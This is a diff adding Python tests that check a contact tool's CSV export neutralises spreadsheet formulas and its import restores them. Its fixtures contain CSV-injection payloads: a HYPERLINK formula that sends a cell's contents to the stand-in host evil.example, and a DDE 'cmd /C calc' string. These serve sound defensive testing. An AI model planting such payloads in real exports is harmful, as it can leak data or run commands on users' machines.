@@ -18,6 +18,8 @@ from dataclasses import dataclass, replace
 from pathlib import Path
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from omidesk.core.contact_io import (
     CSV,
@@ -30,6 +32,7 @@ from omidesk.core.contact_io import (
     export_csv,
     export_file,
     export_vcard,
+    formulas,
     import_file,
     importer,
     preview,
@@ -1171,6 +1174,80 @@ def test_the_vcard_export_is_version_4_escaped_and_folded(
         store2.db.close()
 
 
+# Cells a spreadsheet would run as a formula (OWASP "CSV injection"): a name, company,
+# note, label or number as written may be any text someone typed or imported.
+HOSTILE = Contact(
+    name='=HYPERLINK("http://evil.example/?"&A1,"Nguyễn Văn An")',
+    company="+cmd|' /C calc'!A0",
+    email="@SUM(1+1)",
+    note="-2+3 ghi chú\ndòng hai",
+    phones=(
+        Phone.parse("+84 90 123 4567", "=1+1"),
+        Phone.parse("-1+2", "Mobile"),
+        Phone.parse("=0901234568", ""),
+    ),
+)
+# Names that start with the neutraliser itself, or only look like a formula with a quote.
+QUOTED = [
+    Contact(name="'=already quoted", phones=(Phone.parse("0912 345 678"),)),
+    Contact(name="''+twice", phones=(Phone.parse("0912 345 679"),)),
+    Contact(name="'Quote at the start", phones=(Phone.parse("0912 345 670"),)),
+    Contact(name="Trần @ Công ty", company="@Home", phones=(Phone.parse("0912 345 671"),)),
+]
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_the_csv_export_neutralises_every_formula_and_imports_back(
+    tmp_path: Path, store: ContactStore
+) -> None:
+    store.add(HOSTILE)
+    for contact in QUOTED:
+        store.add(contact)
+    original = summary(store)
+    path = tmp_path / "out.csv"
+    assert export_csv(store, path) == 5
+    with path.open(encoding="utf-8-sig", newline="") as file:
+        cells = [cell for row in csv.reader(file) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
+    assert "'+84 90 123 4567" in cells  # a number as written, quoted like any cell
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Nguyễn Văn An")' in cells
+    assert "''=already quoted" in cells and "'''+twice" in cells
+    assert "'Quote at the start" in cells  # no formula after it: left alone
+    with Database(tmp_path / "again.sqlite3") as again:
+        report = import_file(again, path)
+        assert (report.imported, len(report.skipped)) == (5, 0)
+        assert summary(ContactStore(again)) == original
+        back = {c.name: c for c in ContactStore(again).search("", limit=10)}
+        hostile = back[HOSTILE.name]
+        assert [(p.number, p.valid, p.e164) for p in hostile.phones] == [
+            ("+84 90 123 4567", True, "+84901234567"),
+            ("-1+2", False, None),
+            ("=0901234568", True, "+84901234568"),
+        ]
+
+
+def test_a_quote_before_a_formula_is_taken_off_on_import(
+    tmp_path: Path, store: ContactStore
+) -> None:
+    # What a spreadsheet (or OmiDesk) wrote to keep cells from running: the quote goes.
+    path = tmp_path / "quoted.csv"
+    path.write_text(
+        "Họ tên,Điện thoại,Ghi chú\n"
+        "'-Phạm Thị Thu Hà,'+84 90 123 4567,'=chú ý\n"
+        "'Ông Tư,'0912 345 678,''@nhắc\n",
+        encoding="utf-8",
+    )
+    seen = preview(path)
+    assert seen.rows[0] == ["-Phạm Thị Thu Hà", "+84 90 123 4567", "=chú ý"]
+    import_file(store.db, path)
+    people = everyone(store)
+    assert numbers(people["-Phạm Thị Thu Hà"]) == [("+84 90 123 4567", "")]
+    assert people["-Phạm Thị Thu Hà"].note == "=chú ý"
+    # A quote before anything else is the cell's own text.
+    assert numbers(people["'Ông Tư"]) == [("'0912 345 678", "")]
+    assert people["'Ông Tư"].note == "'@nhắc"
+
+
 def test_export_refuses_an_unknown_extension_or_folder(tmp_path: Path, store: ContactStore) -> None:
     out = tmp_path / "out"
     out.mkdir()
@@ -1206,6 +1283,27 @@ def test_the_report_saves_as_a_spreadsheet_in_the_agents_language(
     }
     assert as_json["skipped_rows"][0]["reason"] == "import_no_number"
     json.dumps(as_json)
+
+
+def test_the_saved_report_neutralises_formulas_too(tmp_path: Path, db: Database) -> None:
+    path = tmp_path / "hostile.csv"
+    path.write_text(
+        'Name,Phone\n"=HYPERLINK(""http://evil.example"",""x"")",\n@SUM(1),0901 23\n',
+        encoding="utf-8",
+    )
+    report = import_file(db, path)
+    assert [issue.name for issue in report.rows()] == [
+        '=HYPERLINK("http://evil.example","x")',
+        "@SUM(1)",
+    ]
+    saved = tmp_path / "report.csv"
+    report.save_csv(saved, "en")
+    with saved.open(encoding="utf-8-sig", newline="") as file:
+        rows = list(csv.reader(file))
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
+    assert rows[1][:2] == ["2", '\'=HYPERLINK("http://evil.example","x")']
+    assert rows[2][:2] == ["3", "'@SUM(1)"]
 
 
 # --- the pieces -----------------------------------------------------------------------------------
@@ -1292,6 +1390,15 @@ def test_encodings_are_told_apart(tmp_path: Path) -> None:
     # Windows-1258 text: tones as combining marks make Vietnamese vowels.
     assert vietnamese_evidence("Nguyê\u0303n Thi\u0323 Hương") == (3, 7)
     assert vietnamese_evidence("Niccol\u0323 \u0303or") == (0, -6)
+
+
+@settings(deadline=None)
+@given(st.text(alphabet=st.sampled_from("=+-@\t\r\n '\"a9đ;,")) | st.text())
+def test_a_neutralised_cell_runs_nothing_and_reads_back_as_it_was(text: str) -> None:
+    cell = formulas.neutralise(text)
+    assert not cell.lstrip(" ").startswith(FORMULA_START)
+    assert formulas.restore(cell) == text
+    assert formulas.restore_row([text, cell]) == [formulas.restore(text), text]
 
 
 def test_vcard_lines_fold_without_splitting_a_character() -> None:
